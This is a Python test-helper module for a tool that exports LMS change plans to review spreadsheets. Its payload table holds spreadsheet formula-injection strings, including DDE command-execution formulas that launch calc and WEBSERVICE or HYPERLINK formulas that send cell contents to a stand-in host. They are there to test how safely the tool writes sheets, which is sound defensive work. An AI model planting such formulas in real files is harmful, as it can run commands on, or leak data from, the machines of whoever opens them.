"""What a sheet may be asked to show, and plans that show it."""

import csv
from io import StringIO

from openpyxl import Workbook, load_workbook

from scormaudit.plan import Change, Op, Plan, Policy, Seen
from scormaudit.sheet import write_sheet

WORDS = ("approve", "reject", "defer", "")
PAYLOADS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "minus a number": "-5",
    "at": "@SUM(1;1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "lone carriage return within": "a\r=1+1",
    "line feed within": "a\n=1+1",
    "both within": "a\r\n=1+1\r\n",
    "blank": " =1+1",
    "no-break blank": "\u00a0=1+1",
    "full-width equals": "\uff1d1+1",
    "full-width plus": "\uff0b1+1",
    "full-width minus": "\uff0d1+1",
    "full-width at": "\uff20SUM(1)",
    "small equals": "\ufe661+1",
    "real minus": "\u22121",
    "byte order mark": "\ufeff=1+1",
    "zero-width space": "\u200b=1+1",
    "zero-width joiner": "\u200d=1+1",
    "soft hyphen": "\u00ad=1+1",
    "override": "\u202e=1+1",
    "filler": "\u3164=1+1",
    "braille blank": "\u2800=1+1",
    "dde": "=cmd|'/C calc'!A0",
    "dde by plus": "+cmd|'/C calc'!A0",
    "dde by at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "dde by name": '=DDE("cmd";"/C calc";"a")',
    "closing quote": '"=1+1',
    "quotes that break the cell": '","=1+1","',
    "quotes that break the row": '"\r\n"=1+1","approve',
    "a formula in quotes": '"=1+1"',
    "equals before quotes": '="0012"',
    "quotes at the end": 'a"',
    "semicolon": "a;=1+1;b",
    "semicolon and blank": "a; =1+1",
    "semicolon and quote": '";=1+1;"',
    "comma": "a,=1+1,b",
    "bar": "a|=1+1|b",
    "tab within": "a\t=1+1\tb",
    "semicolon and minus": "a;-1+1",
    "hyperlink": '=HYPERLINK("http://127.0.0.1/?"&A1;"open")',
    "webservice": '=WEBSERVICE("http://127.0.0.1/?"&A1)',
    "importxml": '=IMPORTXML("http://127.0.0.1","//a")',
    "array": "{=1+1}",
    "apostrophe": "'=1+1",
    "sylk": "ID;PXL;N;E",
    "workbook escape": "_x0041_",
    "escaped equals": "_x003D_1+1",
    "escaped escape": "_x005F_x003D_1+1",
    "escaped null": "_x0000_",
    "null": "a\0b",
    "escape": "\x1b[31mred",
    "unit separator": "\x1f",
    "next line": "a\u0085=1+1",
    "line separator": "a\u2028=1+1",
    "no character": "\ufffe\uffff",
    "private": "\ue000",
    "astral": "\U0001f469\u200d\U0001f469",
    "markup": "<script>alert(1)</script><img src=http://127.0.0.1/x>",
    "end of data": "]]>&amp;&#x3d;",
    "an error": "#N/A",
    "a truth value": "TRUE",
    "leading zeros": "007",
    "a long number": "12345678901234567890",
    "scientific": "1E5",
    "a date": "2026-03-02",
    "another date": "1/2",
    "a month": "MAR1",
    "a negative in brackets": "(5)",
    "percent": "5%",
    "decimal comma": "85,5",
    "money": "$5",
    "a time": "00:10:00",
    "nothing": "",
    "a blank": " ",
    "blanks around": "  a  b  ",
    "backslash": "\\x3d1+1",
    "trailing backslash": "a\\",
    "composed": "pass\u00e9",
    "decomposed": "passe\u0301",
    "right to left": "\u05e9\u05dc\u05d5\u05dd",
    "longer than shown": "a" * 121,
    "longer than a cell": "=1+1;" * 10_000,
    "astral beyond a cell": "\U0001f600" * 40_000,
}


def change(number, payload, **fields):
    """A change that holds `payload` wherever a plan has text."""
    facts = {
        "enrollment_id": f"{payload} {number}",
        "assignment_id": payload,
        "assignment_status_id": payload,
        "sco_id": payload,
        "binding": payload,
        "ops": (
            op("lesson_location", payload, f"{payload}."),
            op("suspend_data", "p=3", payload, undo="lossy", undo_reason=payload),
        ),
        "guards": {},
        "frame": {},
        "rules": ("ST103", "ST104"),
        "reasons": (payload, "Marked failed, though the score reaches the mastery score"),
        "risks": (payload,),
        "kind": "judgement",
        "labels": {"learner": payload, "course": "Safety - part 1"},
        "target": payload,
    }
    return Change(**(facts | fields))


def op(field, before, after, **facts):
    """One operation on a value that was read."""
    facts = {"before": Seen("value", before), "undo": "exact"} | facts
    return Op(field=field, element=f"cmi.{field}", after=after, **facts)


def planned(*changes, **facts):
    """A plan of some changes."""
    facts = {"target": "https://lms.example", "snapshot": "s", "pack": "p"} | facts
    return Plan(tool_version="0", policy=Policy(), proposed=changes, **facts)


def hostile(**facts):
    """A plan with a change for each payload."""
    return planned(*(change(n, text) for n, text in enumerate(PAYLOADS.values())), **facts)


def plain(count=4):
    """A plan of harmless changes with as many columns as a sheet can have."""
    return planned(
        *(
            change(
                n,
                f"text {n}",
                ops=(op("entry", f"ab-inito{n}", "ab-initio"),),
                labels={"course": f"Course {n}"},
            )
            for n in range(count)
        )
    )


def cells(path):
    """Every cell of a sheet as text, header first."""
    if path.suffix == ".csv":
        return list(csv.reader(StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    rows = load_workbook(path).worksheets[0].iter_rows(values_only=True)
    return [["" if cell is None else cell for cell in row] for row in rows]


def rewrite(path, rows, **options):
    """Write rows over a sheet, as somebody's program might; options are the CSV's."""
    if path.suffix == ".csv":
        encoding = options.pop("encoding", "utf-8-sig")
        stream = StringIO(newline="")
        csv.writer(stream, **options).writerows(rows)
        path.write_bytes(stream.getvalue().encode(encoding))
    else:
        book = Workbook()
        book.active.title = "review"
        for row in rows:
            book.active.append(row)
        book.save(path)
    return path


def said(plan):
    """Approve, reject, defer and nothing, in turn."""
    words = {c.hash: WORDS[n % 4] for n, c in enumerate(plan.proposed)}
    return {id_: word for id_, word in words.items() if word}


def sheet_of(plan, folder, suffix, meanings=None):
    """Write a sheet with what was `said`, or with other meanings; its path."""
    path = folder / f"sheet{suffix}"
    write_sheet(plan, said(plan) if meanings is None else meanings, path)
    return path


def words(sheet):
    """The decisions of a sheet without their comments."""
    return {id_: meaning for id_, (meaning, _) in sheet.decisions.items()}


def altered(path, change, **options):
    """A sheet after `change` had its rows, header included, or gave others."""
    rows = cells(path)
    return rewrite(path, change(rows) or rows, **options)
